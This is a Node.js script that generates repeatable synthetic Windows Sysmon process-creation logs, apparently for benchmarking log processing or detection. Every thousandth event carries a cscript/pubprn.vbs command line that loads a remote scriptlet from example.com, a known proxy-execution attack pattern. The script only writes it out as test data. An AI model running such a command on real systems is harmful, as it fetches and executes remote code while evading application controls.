// Writes process creations as JSON, one a line, to standard output: `node many-events.mjs 1000000`.
// The same number gives the same text, so that two measurements are of the same thing.
import { once } from "node:events";

const count = Number(process.argv[2] ?? 1_000_000);

// mulberry32: all the randomness that made-up logs need.
let state = 1216;
const random = (below) => {
  state = (state + 0x6d2b79f5) | 0;
  let t = Math.imul(state ^ (state >>> 15), 1 | state);
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
  return ((t ^ (t >>> 14)) >>> 0) % below;
};
const one = (list) => list[random(list.length)];
const hex = (digits) =>
  Array.from({ length: digits }, () => random(16).toString(16)).join("");
const guid = () => `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`;

const system = "C:\\Windows\\System32\\";
const folders = ["C:\\Program Files\\Example\\", "D:\\Tools\\", "C:\\Users\\Public\\"];
const scripts = system + "Printing_Admin_Scripts\\en-US\\pubprn.vbs";
const kinds = [
  () => [system + "svchost.exe", `svchost.exe -k netsvcs -p -s Task${random(40)}`],
  () => [system + "conhost.exe", "\\??\\C:\\WINDOWS\\system32\\conhost.exe 0xffffffff -ForceV1"],
  () => [one(folders) + "updater.exe", `updater.exe --channel stable --session ${hex(16)}`],
  () => [system + "cmd.exe", `cmd.exe /c dir ${one(folders)}${hex(6)}`],
  () => [system + "cscript.exe", `cscript.exe //nologo ${one(folders)}inventory${random(99)}.vbs`],
];
const rare = () => [
  system + "cscript.exe",
  `cscript.exe //b ${scripts} 127.0.0.1 script:https://example.com/${hex(8)}.sct`,
];

function event(number) {
  const [image, line] = number % 1000 === 500 ? rare() : one(kinds)();
  return JSON.stringify({
    EventID: 1,
    Channel: "Microsoft-Windows-Sysmon/Operational",
    UtcTime: new Date(Date.UTC(2026, 0, 1) + number * 250).toISOString().replace(/[TZ]/g, " ").trim(),
    Computer: `ws${random(200)}.example.com`,
    ProcessGuid: guid(),
    ProcessId: 4 * random(16_000),
    Image: image,
    OriginalFileName: image.split("\\").pop(),
    CommandLine: line,
    CurrentDirectory: system,
    User: `EXAMPLE\\user${random(500)}`,
    IntegrityLevel: one(["Medium", "High", "System"]),
    ParentProcessGuid: guid(),
    ParentImage: one(["C:\\Windows\\explorer.exe", system + "services.exe", system + "cmd.exe"]),
    ParentCommandLine: `parent.exe ${random(1000)}`,
  });
}

let text = "";
for (let number = 0; number < count; number++) {
  text += event(number) + "\n";
  if (text.length > 1 << 20 || number === count - 1) {
    if (!process.stdout.write(text)) await once(process.stdout, "drain");
    text = "";
  }
}
